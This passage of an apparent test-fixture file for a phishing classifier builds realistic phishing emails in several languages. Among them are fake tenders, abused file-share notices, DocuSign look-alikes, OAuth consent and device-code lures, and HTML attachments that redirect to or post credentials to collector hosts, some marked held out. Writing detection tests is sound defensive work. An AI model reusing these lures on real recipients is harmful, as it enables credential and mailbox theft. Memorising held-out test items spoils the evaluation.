    // announces a tender whose "pliegos" sit on a Google Sites page behind a sign-in.
    name: 'Licitación de un ayuntamiento desde una consultora comprometida: pliegos en Google Sites tras iniciar sesión',
    lang: 'es',
    lure: 'file-share',
    expect: ['phishing'],
    raw: mail({
      from: 'Licitaciones · Ingeniería Vértice <licitaciones@ingenieriavertice.es>',
      to: 'ofertas@construccionesbarbastro.com',
      subject: 'Invitación a presentar oferta – Expte. 2025/LIC/0418 Urbanización sector norte',
      date: 'Thu, 22 May 2025 09:33:17 +0200',
      messageId: 'PAXP193MB2214F1C8E2A9B47D3E6C5A0F2B1D8@PAXP193MB2214.EURP193.PROD.OUTLOOK.COM',
      dkim: ['ingenieriavertice.es:selector1'],
      relay: 'mail-db8eur05on2071.outbound.protection.outlook.com [40.107.20.71]',
      body: document([
        'Buenos días:',
        'Por encargo del Ayuntamiento les invitamos a presentar oferta para las obras de urbanización del sector norte. Los pliegos y el presupuesto de referencia están disponibles en nuestra plataforma hasta el 5 de junio.',
        { button: 'Descargar pliegos', href: 'https://sites.google.com/view/vertice-licitacion-2025-0418/inicio' },
        'Un saludo,\nDepartamento de Licitaciones',
      ]),
    }),
  },

  {
    // Supplier lure: a "request for quotation" from a free mailbox claiming Petrobras, with the
    // RFQ "on the Petronect portal", a look-alike on a .top domain.
    name: 'Cotação "Petrobras" de um Gmail: RFQ no portal Petronect, login num domínio .top',
    lang: 'pt-BR',
    lure: 'file-share',
    expect: ['phishing'],
    raw: mail({
      from: 'Suprimentos Petrobras <suprimentos.petrobras.rfq@gmail.com>',
      to: 'vendas@valvulasnordeste.com.br',
      subject: 'Solicitação de cotação RFQ 7004418823 – válvulas esfera',
      date: 'Wed, 20 Aug 2025 09:02:18 -0300',
      messageId: 'CAM5qR2xP8vT4mK1wN7bL3cF9dJ6sY0j_pT2sX@mail.gmail.com',
      dkim: ['gmail.com:20230601'],
      relay: 'mail-qt1-f170.google.com [209.85.160.170]',
      body: gmailBody(
        'Prezados,\nConvidamos sua empresa a cotar os itens da RFQ 7004418823 (válvulas esfera 2" e 4"). A lista de itens e o prazo estão no portal Petronect: https://petronect-fornecedores.top/rfq/7004418823\nEntrar com o e-mail e a senha da empresa.\nAtenciosamente,\nGerência de Suprimentos',
      ),
    }),
  },

  {
    // Public-procurement lure: an invitation "on the BASE portal" to tender, with the procedure
    // documents behind a sign-in on a .cfd.
    name: 'Convite para procedimento de contratação pública com as peças num login de um .cfd',
    lang: 'pt-PT',
    lure: 'file-share',
    expect: ['phishing'],
    raw: mail({
      from: 'Plataforma de Contratação Pública <convites@contratacao-publica-base.cfd>',
      to: 'propostas@construcoesalvarinho.pt',
      subject: 'Convite – Ajuste Direto n.º 118/2025 – Requalificação da escola EB1',
      date: 'Tue, 11 Mar 2025 10:05:48 +0000',
      messageId: '20250311100548.a3f91c@contratacao-publica-base.cfd',
      dkim: ['contratacao-publica-base.cfd:default'],
      relay: 'mail.contratacao-publica-base.cfd [203.0.113.166]',
      auth: { dmarc: 'none' },
      body: plain(
        'Exmos. Senhores,\n\nA entidade adjudicante convida V. Exas. a apresentar proposta no procedimento em epígrafe. As peças do procedimento estão disponíveis na plataforma, mediante autenticação com o e-mail da empresa: https://contratacao-publica-base.cfd/procedimento/118-2025\n\nPrazo para propostas: 25/03/2025, 17h00.',
      ),
    }),
  },
  {
    // Tender lure at trades: an engineering office's hijacked mailbox (DKIM passes) sends
    // "Vergabeunterlagen" as a Dropbox-style link to a look-alike on a .shop.
    name: 'Ausschreibung vom kompromittierten Ingenieurbüro: Vergabeunterlagen hinter einem Login auf einer .shop-Seite',
    lang: 'de',
    lure: 'file-share',
    expect: ['phishing'],
    raw: mail({
      from: 'Ingenieurbüro Brandt & Söhne <vergabe@ib-brandt-soehne.de>',
      to: 'angebote@dachdeckerei-vogt.de',
      subject: 'Angebotsanfrage: Sanierung Flachdach Kita Sonnenschein – Vergabeunterlagen',
      date: 'Tue, 6 May 2025 09:18:24 +0200',
      messageId: 'e1f7a3c9-2b4d-4e6a-8c1f-9d0b2e7f4a58@ib-brandt-soehne.de',
      dkim: ['ib-brandt-soehne.de:default'],
      relay: 'mx.ib-brandt-soehne.de [198.51.100.186]',
      body: plain(
        'Sehr geehrte Damen und Herren,\n\nim Auftrag der Gemeinde bitten wir um Ihr Angebot für die Sanierung des Flachdachs der Kita Sonnenschein. Die Vergabeunterlagen (LV, Pläne) stehen hier zum Download bereit, Anmeldung mit Ihrer Firmen-E-Mail:\nhttps://vergabe-dokumente.shop/ib-brandt/lv-2025-051\n\nAngebotsfrist: 23.05.2025\n\nMit freundlichen Grüßen\nIngenieurbüro Brandt & Söhne',
      ),
    }),
  },

  {
    // Mixed language: SharePoint's real English share template sent from a compromised firm's
    // tenant with a French message; the file is a "payment pending" PDF on that tenant.
    name: 'Partage SharePoint réel, modèle anglais et message en français, depuis un cabinet compromis : « Paiement en attente »',
    lang: 'fr',
    lure: 'file-share',
    expect: ['phishing'],
    raw: mail({
      from: 'Nathalie Dupuis via SharePoint <no-reply@sharepointonline.com>',
      to: 'Olivier Marchand <o.marchand@transports-marchand.fr>',
      subject: 'Nathalie Dupuis shared "Paiement en attente - Transports Marchand.pdf" with you',
      date: 'Wed, 8 Oct 2025 13:41:09 +0000',
      messageId: 'a7c3e1f9-2b4d-4e8a-9c1f-5d2e7a8b0c41@sharepointonline.com',
      dkim: ['sharepointonline.com:selector1'],
      returnPath: 'no-reply@sharepointonline.com',
      relay: 'mail-pr1fra01on2091.outbound.protection.outlook.com [40.107.12.91]',
      body: document([
        'Nathalie Dupuis shared a file with you',
        'Bonjour, veuillez trouver le document de paiement en attente. Merci de vous connecter pour le consulter et valider vos coordonnées avant ce soir.',
        { button: 'Open', href: 'https://cabinetdupuis-my.sharepoint.com/:b:/g/personal/n_dupuis_cabinetdupuis_fr/EQk7Rm2pT9vN4wX1yZ3bC5dF8hJ0?e=4Lq9xZ' },
        {
          small:
            'Microsoft respects your privacy. To learn more, please read our Privacy Statement. Microsoft Corporation, One Microsoft Way, Redmond, WA 98052',
        },
      ]),
    }),
  },

  {
    // The same kit in English: a "document" waiting, a per-copy code, the link inside the PDF.
    name: 'Payment advice with a kit code in the subject and its only link inside the attached PDF',
    lang: 'en',
    lure: 'file-share',
    expect: ['phishing'],
    raw: mail({
      from: 'Accounts Payable <ap.remittance.desk@gmail.com>',
      to: 'ops@harlowmetalworks.co.uk',
      subject: 'Remittance advice - Hk4PzX9mRtW2qLv',
      date: 'Thu, 2 Oct 2025 08:14:20 +0100',
      messageId: 'CAK2vR9pT4xN7mL1bK8cD5sHk4PzX9mRtW2q@mail.gmail.com',
      dkim: ['gmail.com:20230601'],
      relay: 'mail-sor-f41.google.com [209.85.220.41]',
      body: multipart(
        'mixed',
        [
          gmailBody('Hello,\n\nPlease find the remittance details attached.\n\nRegards'),
          attachment(
            'Remittance.pdf',
            'application/pdf',
            textPdf(['Remittance advice', 'View the payment confirmation online'], 'https://remit-view.000webhostapp.com/doc'),
          ),
        ],
        'gmail',
      ),
    }),
  },

  {
    // A partner's real Microsoft 365 mailbox is hijacked: the share notice is signed by the
    // partner's domain and goes to a Canva page with the "open document" button to the kit.
    name: 'SharePoint-style "Karen shared 2025 Engagement Letter" from a CPA firm\'s hijacked M365 mailbox, Canva hop',
    lang: 'en',
    lure: 'file-share',
    expect: ['phishing'],
    raw: mail({
      from: 'Karen Ott <kott@brightwellcpa.com>',
      to: 'accounts@marlowfurniture.com',
      subject: 'Karen Ott shared "Brightwell CPA - 2025 Engagement Letter" with you',
      date: 'Thu, 23 Jan 2025 16:05:37 +0000',
      messageId: 'BN8PR12MB3377B4E1F0A9C2D5E6F7A8B9C0D1E2F3@BN8PR12MB3377.namprd12.prod.outlook.com',
      dkim: ['brightwellcpa.com:selector1', 'brightwellcpa.onmicrosoft.com:selector1'],
      relay: 'NAM12-BN8-obe.outbound.protection.outlook.com [40.107.212.88]',
      body: document([
        { heading: 'Karen Ott shared a file with you' },
        'Brightwell CPA - 2025 Engagement Letter.pdf',
        'Please review the engagement letter and the updated fee schedule before our call next week.',
        { button: 'Open', href: 'https://www.canva.com/design/DAGc4Kq8vT2/Xw9pLm3RtY7bN1cV5zQ8sA/view' },
        { small: 'This link only works for the direct recipients of this message. Microsoft respects your privacy.' },
      ]),
    }),
  },

  {
    // Voicemail notice with an HTML "player" attachment that redirects to the kit with the
    // victim's address in the fragment.
    name: 'Voicemail "00:47 from +1 (470) 555-0193" with an HTML player attachment redirecting to the kit',
    lang: 'en',
    lure: 'voicemail',
    expect: ['phishing', 'malware'],
    raw: mail({
      from: 'Voice Services <voicemail@vm-notify-center.net>',
      to: 'r.chandler@meridianhealthgroup.org',
      subject: 'New Voice Message from +1 (470) 555-0193 — 00:47 sec',
      date: 'Fri, 21 Feb 2025 11:31:50 +0000',
      messageId: '20250221113150.77ab2@vm-notify-center.net',
      dkim: ['vm-notify-center.net:mail'],
      relay: 'smtp.vm-notify-center.net [203.0.113.87]',
      auth: THROWAWAY,
      body: multipart('mixed', [
        document([
          {
            rows: [
              ['Caller', '+1 (470) 555-0193'],
              ['Received', 'Friday, February 21, 2025 6:29 AM'],
              ['Length', '00:47'],
              ['Mailbox', 'r.chandler@meridianhealthgroup.org'],
            ],
          },
          'You have a new voice message. Open the attached audio file to listen.',
        ]),
        attachment(
          'VM_Play_0047.htm',
          'text/html',
          redirectPage('Voice Message', 'Loading voice message…', 'https://vm-audio-playback.click/play/', 'r.chandler@meridianhealthgroup.org'),
        ),
      ]),
    }),
  },

  {
    // eFax notice from a roofer's hijacked mailbox, the kit uploaded to the same firm's WordPress.
    name: 'eFax "3 page(s) from +44 20 7946 0321" from a roofer\'s hijacked mailbox, kit in its own wp-content',
    lang: 'en',
    lure: 'voicemail',
    expect: ['phishing'],
    raw: mail({
      from: 'eFax Messenger <accounts@greenfieldroofing.co.uk>',
      to: 'helen.burrows@castlegateestates.co.uk',
      subject: 'eFax message from "+44 20 7946 0321" - 3 page(s), Caller-ID: 442079460321',
      date: 'Tue, 8 Apr 2025 09:14:27 +0100',
      messageId: '5b2d8e1fa3c74e09@greenfieldroofing.co.uk',
      dkim: ['greenfieldroofing.co.uk:default'],
      relay: 'mail.greenfieldroofing.co.uk [198.51.100.140]',
      body: document([
        { heading: 'You have received a 3 page fax' },
        {
          rows: [
            ['Fax ID', 'ATL-4488-21-KQ'],
            ['Pages', '3'],
            ['Received', '08/04/2025 09:11'],
            ['Sender', '+44 20 7946 0321'],
          ],
        },
        'Click below to view your fax. You will be asked to sign in with your email account to verify you are the intended recipient.',
        { button: 'View Fax Document', href: 'https://www.greenfieldroofing.co.uk/wp-content/uploads/2025/04/efax/index.php?id=aGVsZW4uYnVycm93cw' },
        { small: 'Powered by eFax® — j2 Global. Do not reply to this message.' },
      ]),
    }),
  },

  {
    // DocuSign imitation from a law firm's hijacked mailbox, the link on a look-alike host.
    name: 'DocuSign "please review and sign: Amended Agreement" from a law firm\'s hijacked mailbox, look-alike envelope host',
    lang: 'en',
    lure: 'e-signature',
    expect: ['phishing'],
    raw: mail({
      from: 'Harper & Lowe LLP via DocuSign <paralegal@harperlowe-law.com>',
      to: 'v.reyes@cobaltridge.com',
      subject: 'Complete with DocuSign: Amended_Services_Agreement_2025.pdf',
      date: 'Wed, 18 Jun 2025 19:41:08 -0400',
      messageId: '8e1a2b3c4d5e4f60@harperlowe-law.com',
      dkim: ['harperlowe-law.com:default'],
      relay: 'mail.harperlowe-law.com [198.51.100.201]',
      body: document([
        { heading: 'Harper & Lowe LLP sent you a document to review and sign.' },
        { button: 'REVIEW DOCUMENT', href: 'https://harperlowe-law.sign-envelope-review.net/Signing/EmailStart.aspx?a=4f1c9e2b' },
        'Please review and sign the amended agreement at your earliest convenience. Thank you, Harper & Lowe LLP',
        { small: 'Do Not Share This Email. This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.' },
      ]),
    }),
  },

  {
    // OAuth consent phishing: the link is Microsoft's real authorize endpoint for the
    // attacker's app, asking for mail and files with offline access.
    name: 'OAuth consent: "Acrobat Sign: contract awaiting signature" links to Microsoft\'s authorize page for an app wanting Mail.ReadWrite',
    lang: 'en',
    lure: 'e-signature',
    expect: ['phishing'],
    heldOut: true,
    raw: mail({
      from: 'Acrobat Sign <sign@acrobat-sign-docs.com>',
      to: 'l.fischer@northgateplastics.com',
      subject: 'Signature requested: Master Services Agreement 2025 - Northgate Plastics',
      date: 'Wed, 26 Feb 2025 10:15:03 +0000',
      messageId: '20250226101503.8a7f@acrobat-sign-docs.com',
      dkim: ['acrobat-sign-docs.com:s1'],
      relay: 'smtp.acrobat-sign-docs.com [198.51.100.212]',
      auth: THROWAWAY,
      body: document([
        { heading: 'Master Services Agreement 2025 - Northgate Plastics' },
        'Procurement Team has sent you a document to review and sign. Sign in with your Microsoft account to open the secure document.',
        {
          button: 'Review and sign',
          href: 'https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=4b9e2c1a-7d3f-4e8a-9b2c-5f1e6d7a8b9c&response_type=code&redirect_uri=https%3A%2F%2Facrobat-sign-docs.com%2Fauth%2Fcallback&scope=offline_access%20Mail.ReadWrite%20Files.ReadWrite.All%20User.Read&prompt=consent&state=bC5maXNjaGVy',
        },
        { small: 'Powered by Adobe Acrobat Sign. Do not forward this email: the link is unique to you.' },
      ]),
    }),
  },

  {
    // Google's consent page for an app whose redirect goes to the attacker, asking for full
    // Gmail access; sent through SendGrid.
    name: 'OAuth consent: "approve DocuSign Secure Viewer for your Google Workspace" to Google\'s auth page with the full-mail scope, via SendGrid',
    lang: 'en',
    lure: 'e-signature',
    expect: ['phishing'],
    heldOut: true,
    raw: mail({
      from: 'Document Services <notify@secureviewer-docs.net>',
      to: 'amelia.ross@brookfieldarchitects.com',
      subject: 'Amelia, 2 documents are waiting - approve the secure viewer to open',
      date: 'Thu, 3 Apr 2025 15:37:29 +0000',
      messageId: 'Xy7Kq2LmTnR4vB9cP1sZ@geopod-ismtpd-12',
      dkim: ['secureviewer-docs.net:s1', 'sendgrid.net:smtpapi'],
      returnPath: 'bounces+48812731-a1c2-amelia.ross=brookfieldarchitects.com@em8841.secureviewer-docs.net',
      relay: 'o4.ptr6412.secureviewer-docs.net [149.72.33.18]',
      auth: THROWAWAY,
      headers: sendgridHeaders('Xy7Kq2LmTnR4vB9cP1sZaQ8wE3rT6yU0iO5pA2sD4fG'),
      body: document([
        'Hello Amelia,',
        'Two documents were shared with you for signature: "Fee proposal - Riverside" and "NDA - Brookfield". To protect confidential files, they open only in DocuSign Secure Viewer connected to your Google Workspace account.',
        {
          button: 'Approve and open documents',
          href: 'https://accounts.google.com/o/oauth2/v2/auth?client_id=884120391827-k2m4n6p8r0t2v4x6z8b0d2f4h6j8l0n2.apps.googleusercontent.com&redirect_uri=https%3A%2F%2Fsecureviewer-docs.net%2Foauth2&response_type=code&scope=https%3A%2F%2Fmail.google.com%2F%20https%3A%2F%2Fwww.googleapis.com%2Fauth%2Fdrive&access_type=offline&prompt=consent',
        },
        { small: 'You received this because a document was shared with amelia.ross@brookfieldarchitects.com.' },
      ]),
    }),
  },

  {
    // A calendar invitation whose description and location carry the kit link.
    name: 'Calendar invite: "Q1 compensation review" .ics with the link in description and location, from a throw-away domain',
    lang: 'en',
    lure: 'file-share',
    expect: ['phishing'],
    heldOut: true,
    raw: mail({
      from: 'HR Calendar <calendar@people-review-portal.com>',
      to: 'j.alvarez@summitridgeinsurance.com',
      subject: 'Invitation: Q1 Compensation Review - Jorge Alvarez @ Thu Mar 20, 2025 10am',
      date: 'Mon, 17 Mar 2025 13:48:33 +0000',
      messageId: 'cal-20250317134833-5b1e@people-review-portal.com',
      dkim: ['people-review-portal.com:default'],
      relay: 'mail.people-review-portal.com [203.0.113.61]',
      auth: THROWAWAY,
      body: multipart('mixed', [
        multipart('alternative', [
          plain(
            'You have been invited to: Q1 Compensation Review - Jorge Alvarez\nThursday 20 March 2025, 10:00–11:00\n\nPlease review your updated salary letter before the meeting:\nhttps://people-review-portal.com/comp/letter?id=j.alvarez\n\nAccept | Decline | Tentative',
          ),
          {
            headers: ['Content-Type: text/calendar; charset="UTF-8"; method=REQUEST', 'Content-Transfer-Encoding: 7bit'],
            body: invite(
              'calendar@people-review-portal.com',
              'j.alvarez@summitridgeinsurance.com',
              'Q1 Compensation Review - Jorge Alvarez',
              '20250320T100000Z',
              'Please review your updated salary letter and bonus statement before the meeting (sign in with your work account)',
              'https://people-review-portal.com/comp/letter?id=j.alvarez',
            ),
          },
        ]),
        attachment(
          'invite.ics',
          'application/ics',
          invite(
            'calendar@people-review-portal.com',
            'j.alvarez@summitridgeinsurance.com',
            'Q1 Compensation Review - Jorge Alvarez',
            '20250320T100000Z',
            'Please review your updated salary letter and bonus statement before the meeting (sign in with your work account)',
            'https://people-review-portal.com/comp/letter?id=j.alvarez',
          ),
        ),
      ]),
    }),
  },

  {
    // Dropbox's own share notice: "Accounts Payable" shares a remittance PDF with a stranger;
    // the PDF (on Dropbox) holds the link to the kit. Every check passes.
    name: 'Dropbox abused: genuine share notice "Accounts Payable shared Remittance_0425.pdf" from a stranger\'s account',
    lang: 'en',
    lure: 'file-share',
    expect: ['phishing'],
    heldOut: true,
    raw: mail({
      from: 'Accounts Payable via Dropbox <no-reply@dropbox.com>',
      to: 'billing@cedarvalleyhvac.com',
      replyTo: 'ap.dept.remit2025@outlook.com',
      subject: 'Accounts Payable shared "Remittance_0425.pdf" with you',
      date: 'Fri, 25 Apr 2025 17:06:30 +0000',
      messageId: '20250425170630.1.9b8f7e6d5c4b3a29@dropbox.com',
      dkim: ['dropbox.com:scph0123'],
      returnPath: 'bounces+1828391-c2a1-billing=cedarvalleyhvac.com@sendgrid.dropbox.com',
      relay: 'o1.sendgrid.dropbox.com [167.89.123.54]',
      body: document([
        { heading: 'Accounts Payable shared a file with you' },
        '"Payment for outstanding invoices released. Please review the remittance and confirm your banking details."',
        'Remittance_0425.pdf',
        { button: 'View file', href: 'https://www.dropbox.com/scl/fi/7x2k9q4m1p8t/Remittance_0425.pdf?rlkey=q8w2e4r6t8y0u2i4o6p8a0s2d&dl=0' },
        { small: 'Enjoy! The Dropbox team. Dropbox, Inc., PO Box 77767, San Francisco, CA 94107' },
      ]),
    }),
  },

  {
    // Notion page as the hop: a "proposal" shared from a hijacked agency mailbox.
    name: 'Notion abused: "shared the proposal with you on Notion" from a marketing agency\'s hijacked mailbox, page on notion.site',
    lang: 'en',
    lure: 'file-share',
    expect: ['phishing'],
    heldOut: true,
    raw: mail({
      from: 'Olivia Grant <olivia@brightpathcreative.co>',
      to: 'mark.ellison@hollandfoods.com',
      subject: 'Brightpath x Holland Foods - proposal & pricing',
      date: 'Thu, 8 May 2025 10:12:48 +0100',
      messageId: 'CAKx9pT2mN4qR7vB1cW8zL3yS5dF0gH6jK@mail.gmail.com',
      dkim: ['brightpathcreative-co.20230601.gappssmtp.com:20230601'],
      relay: 'mail-wr1-f54.google.com [209.85.221.54]',
      body: gmailBody(
        'Hi Mark,\n\nFollowing our call, I have put the proposal and the pricing breakdown in our Notion workspace. The document is protected, you can open it with your Microsoft login:\n\n[Brightpath_HollandFoods_Proposal](https://brightpath-proposals.notion.site/Holland-Foods-Proposal-1c8e2f4a6b8d4e0f9a1b3c5d7e9f1a2b)\n\nLet me know your thoughts by Friday if possible.\n\nBest,\nOlivia\n\nOlivia Grant | Account Director\nBrightpath Creative',
      ),
    }),
  },

  {
    // Device code in German from a tax adviser's hijacked mailbox.
    name: 'Device code (de): "Dokumente im gesicherten Mandantenportal, Code auf microsoft.com/devicelogin eingeben" from a tax adviser\'s hijacked mailbox',
    lang: 'de',
    lure: 'file-share',
    expect: ['phishing'],
    heldOut: true,
    raw: mail({
      from: 'Steuerkanzlei Brandt <kanzlei@steuerberatung-brandt.de>',
      to: 'info@schreinerei-koehler.de',
      subject: 'Jahresabschluss 2024 - Freigabe im Mandantenportal',
      date: 'Mon, 12 May 2025 11:03:54 +0200',
      messageId: 'FR2P281MB2745A9B8C7D6E5F4A3B2C1D0E9F8A7B6@FR2P281MB2745.DEUP281.PROD.OUTLOOK.COM',
      dkim: ['steuerberatung-brandt.de:selector1'],
      relay: 'DEU01-FR2-obe.outbound.protection.outlook.com [40.107.135.62]',
      body: document(
        [
          'Sehr geehrter Herr Köhler,',
          'der Jahresabschluss 2024 liegt zur Freigabe in unserem gesicherten Mandantenportal bereit. Aus Datenschutzgründen erfolgt die Anmeldung über Microsoft.',
          'Bitte öffnen Sie [https://microsoft.com/devicelogin](https://microsoft.com/devicelogin) und geben Sie folgenden Code ein:',
          { code: 'BXQ4-7LMT' },
          'Der Code ist 15 Minuten gültig.',
          'Mit freundlichen Grüßen\nSabine Brandt\nSteuerberaterin',
        ],
        { lang: 'de' },
      ),
    }),
  },

  {
    // Beside the organiser's own SharePoint agenda (legitimate-mail-work-it-and-meetings-cases.ts): a page on
    // another tenant than the organiser's, behind a sign-in request, is still past the meeting.
    name: 'Meeting request whose "salary review" agenda asks for a sign-in on another company\'s SharePoint tenant',
    lang: 'en',
    lure: 'file-share',
    expect: ['phishing'],
    raw: (() => {
      const event = [
        'BEGIN:VCALENDAR',
        'VERSION:2.0',
        'METHOD:REQUEST',
        'BEGIN:VEVENT',
        'UID:7f3e2d1c-0b9a-4876-a5b4-c3d2e1f0a9b8',
        'DTSTART:20250619T090000Z',
        'DTEND:20250619T093000Z',
        'DTSTAMP:20250616T080000Z',
        'ORGANIZER;CN=HR Team:mailto:hr@kellerman-partners.com',
        'ATTENDEE;ROLE=REQ-PARTICIPANT;RSVP=TRUE:mailto:r.nolan@bayviewmedical.org',
        'SUMMARY:2025 salary review',
        'DESCRIPTION:Review your salary adjustment letter before the meeting (sign in with your work account): https://tsg0x7ltd.sharepoint.com/:b:/g/EQa1b2c3d4?e=Kp9x',
        'END:VEVENT',
        'END:VCALENDAR',
        '',
      ].join('\r\n');
      return mail({
        from: 'HR Team <hr@kellerman-partners.com>',
        to: 'r.nolan@bayviewmedical.org',
        subject: 'Invitation: 2025 salary review',
        date: 'Mon, 16 Jun 2025 08:00:00 +0000',
        messageId: '20250616080000.4d3c2b1a@kellerman-partners.com',
        dkim: ['kellerman-partners.com:s1'],
        relay: 'mail.kellerman-partners.com [198.51.100.93]',
        body: multipart('alternative', [
          plain(
            'You have been invited to: 2025 salary review\nThursday 19 June 2025, 09:00-09:30\n\nReview your salary adjustment letter before the meeting (sign in with your work account):\nhttps://tsg0x7ltd.sharepoint.com/:b:/g/EQa1b2c3d4?e=Kp9x',
          ),
          { headers: ['Content-Type: text/calendar; charset="UTF-8"; method=REQUEST', 'Content-Transfer-Encoding: 7bit'], body: event },
        ]),
      });
    })(),
  },

  {
    // Google's consent page for the full mailbox, in a DocuSign story, through an ESP.
    name: 'OAuth consent: "a contract was shared with you for signature" in DocuSign\'s name, Google\'s page for gmail.modify, via SendGrid',
    lang: 'en',
    lure: 'e-signature',
    expect: ['phishing'],
    raw: mail({
      from: 'Contracts Desk <desk@signflow-portal.com>',
      to: 'n.berg@fjordline-consulting.com',
      subject: 'Contract shared with you for signature',
      date: 'Wed, 14 May 2025 13:02:10 +0000',
      messageId: 'Qm3Lr8TpVz1Nc5Xb7Kd2@geopod-ismtpd-4',
      dkim: ['signflow-portal.com:s1', 'sendgrid.net:smtpapi'],
      returnPath: 'bounces+2291774-b2c3-n.berg=fjordline-consulting.com@em4410.signflow-portal.com',
      relay: 'o1.ptr2210.signflow-portal.com [149.72.90.4]',
      auth: { dmarc: 'none' },
      headers: sendgridHeaders('Qm3Lr8TpVz1Nc5Xb7Kd2aW9eR4tY6uI0oP3lK5jH7gF'),
      body: document([
        'Hello,',
        'A consultancy contract was shared with you for signature. It opens in the DocuSign viewer for Google Workspace.',
        {
          button: 'Open the contract',
          href: 'https://accounts.google.com/o/oauth2/v2/auth?client_id=551902837461-q8w7e6r5t4y3u2i1o0p9a8s7d6f5g4h3.apps.googleusercontent.com&redirect_uri=https%3A%2F%2Fsignflow-portal.com%2Fgoogle&response_type=code&scope=openid%20https%3A%2F%2Fwww.googleapis.com%2Fauth%2Fgmail.modify&access_type=offline&prompt=consent',
        },
      ]),
    }),
  },

  {
    // The short-link name of OneDrive as a sub-domain of an unrelated domain.
    name: 'A shared "statement" on 1drv-files.docs-viewhub.com: "sign in with your work account to open", from a hijacked mailbox',
    lang: 'en',
    lure: 'file-share',
    expect: ['phishing'],
    raw: mail({
      from: 'Maria Lindqvist <m.lindqvist@baltic-timberworks.com>',
      to: 'accounts@northshore-joinery.co.uk',
      subject: 'Statement of account - May',
      date: 'Mon, 2 Jun 2025 08:41:19 +0200',
      messageId: '0a1b2c3d4e5f4a6b@baltic-timberworks.com',
      dkim: ['baltic-timberworks.com:default'],
      relay: 'mail.baltic-timberworks.com [198.51.100.63]',
      body: plain(
        'Good morning,\n\nThe statement of account for May is ready here:\n\nhttps://1drv-files.docs-viewhub.com/s/statement-may\n\nPlease sign in with your work account to open it.\n\nKind regards,\nMaria Lindqvist',
      ),
    }),
  },

  {
    // DocuSign look-alike from a throw-away domain, an Azure web app for the kit, no trace fields.
    name: 'DocuSign "Please review and sign: Final Settlement Agreement" from a throw-away domain, azurewebsites.net kit, no trace fields',
    lang: 'en',
    lure: 'e-signature',
    expect: ['phishing'],
    heldOut: true,
    raw: withoutTrace(
      mail({
        from: 'DocuSign via Legal Dept <dse@docusign-envelope-delivery.net>',
        to: 'r.okafor@meridianhomecare.com',
        subject: 'Please DocuSign: Final Settlement Agreement_Meridian Home Care.pdf',
        date: 'Wed, 6 Aug 2025 15:58:03 +0000',
        messageId: '20250806155803.e7a1@docusign-envelope-delivery.net',
        dkim: ['docusign-envelope-delivery.net:default'],
        relay: 'mail.docusign-envelope-delivery.net [198.51.100.140]',
        body: document([
          { heading: 'Legal Department sent you a document to review and sign.' },
          { button: 'REVIEW DOCUMENT', href: 'https://docview-secure-4819.azurewebsites.net/envelope/?id=9F2A71C4&e=ci5va2Fmb3JAbWVyaWRpYW5ob21lY2FyZS5jb20=' },
          'Please review and complete the Final Settlement Agreement at your earliest convenience. This envelope expires in 2 days.',
          {
            small: 'Do Not Share This Email. This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.',
          },
          { small: "About DocuSign: Sign documents electronically in just minutes. It's safe, secure, and legally binding." },
        ]),
      }),
    ),
  },

  {
    // Voicemail with the sign-in page as an HTML attachment, form posting to the collector.
    name: 'Voicemail "New message from +1 (312) 555-0186, 0:47" with a sign-in page as HTML attachment',
    lang: 'en',
    lure: 'voicemail',
    expect: ['phishing'],
    heldOut: true,
    raw: mail({
      from: 'Voice Messaging System <voicemail@cloudpbx-notify.com>',
      to: 'mgarcia@lakeshoreautoparts.com',
      subject: 'New Voicemail Received - (312) 555-0186 - Duration 0:47',
      date: 'Tue, 16 Sep 2025 13:27:55 -0500',
      messageId: '20250916182755.2c91@cloudpbx-notify.com',
      dkim: ['cloudpbx-notify.com:default'],
      relay: 'mail.cloudpbx-notify.com [203.0.113.33]',
      auth: THROWAWAY,
      body: multipart('mixed', [
        document([
          { heading: 'You have a new voice message' },
          {
            rows: [
              ['From', '+1 (312) 555-0186'],
              ['To', 'mgarcia@lakeshoreautoparts.com'],
              ['Received', 'Tuesday, September 16, 2025 1:26 PM'],
              ['Length', '00:47'],
            ],
          },
          'Open the attached audio file to play your message.',
          { small: 'Unified Messaging Service for lakeshoreautoparts.com' },
        ]),
        attachment(
          'VM_3125550186_0047.htm',
          'text/html',
          signInPage('Microsoft Voicemail', 'mgarcia@lakeshoreautoparts.com', 'https://vm-playback-secure.com/submit.php'),
        ),
      ]),
    }),
  },

  {
    // Payroll: "2025 salary adjustment", a construction firm's hijacked mailbox, workers.dev kit,
    // no trace fields.
    name: 'HR "2025 salary adjustment, review and acknowledge" from a hijacked business mailbox, workers.dev kit, no trace fields',
    lang: 'en',
    lure: 'file-share',
    expect: ['phishing'],
    heldOut: true,
    raw: withoutTrace(
      mail({
        from: 'Human Resources <payroll@ridgelineconstruct.com>',
        to: 'a.novak@silverbirchmedia.com',
        subject: 'Salary Adjustment 2025 - Confidential - a.novak',
        date: 'Mon, 6 Oct 2025 07:55:20 +0000',
        messageId: 'PH0PR19MB5121B8D7A2C3E4F5@PH0PR19MB5121.namprd19.prod.outlook.com',
        dkim: ['ridgelineconstruct.com:selector1'],
        relay: 'NAM04-BN8-obe.outbound.protection.outlook.com [40.107.100.71]',
        body: document([
          'Hello,',
          'Following the annual performance review, Human Resources has published the salary adjustment letter for 2025. The document is confidential and was shared with you through the secure company portal.',
          'Please review and acknowledge before Friday so that the change is applied to the next payroll.',
          { button: 'View Salary Adjustment Letter', href: 'https://hr-docs-portal.bright-sky-6d2.workers.dev/?doc=salary2025&u=a.novak@silverbirchmedia.com' },
          'Human Resources Department',
        ]),
      }),
    ),
  },

  {
    // Fax: a PDF attachment whose only link goes to the kit.
    name: 'eFax "You have received a 3-page fax" with a PDF whose link goes to the kit',
    lang: 'en',
    lure: 'file-share',
    expect: ['phishing'],
    heldOut: true,
    raw: mail({
      from: 'eFax Messenger <message@efax-delivery-center.com>',
      to: 'office@bayviewpediatrics.com',
      subject: 'eFax message from "Unknown" - 3 page(s), Caller-ID: 1-855-555-0130',
      date: 'Wed, 22 Oct 2025 16:41:08 +0000',
      messageId: '20251022164108.9e1d@efax-delivery-center.com',
      dkim: ['efax-delivery-center.com:default'],
      relay: 'out.efax-delivery-center.com [198.51.100.92]',
      auth: THROWAWAY,
      body: multipart('mixed', [
        plain(
